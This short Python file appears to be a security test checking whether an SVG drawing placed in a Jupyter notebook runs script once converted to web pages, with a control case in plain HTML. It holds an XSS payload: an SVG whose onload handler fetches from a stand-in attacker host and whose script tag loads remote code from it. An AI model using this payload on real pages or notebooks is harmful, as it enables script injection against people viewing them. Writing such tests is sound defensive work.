# A drawing that loads a script, in the pages made of it.
# stopped by: a drawing is no kind of output that is kept
# control: own
# expect: graded 0

from target import displaying, obeyed

MARK = "evil.example"
PAYLOAD = '<svg xmlns=\'http://www.w3.org/2000/svg\' onload="fetch(\'//evil.example\')"><script href=\'//evil.example/a.js\'/></svg>'


def make(folder, name, honest):
    (folder / f"{name}.ipynb").write_text(displaying("image/svg+xml", PAYLOAD))


def control(folder):
    # As it is: nbconvert shows drawings as pictures, which run nothing.
    return browsed(f"<html><body>{PAYLOAD}</body></html>")


def browsed(page):
    return obeyed(page, MARK)
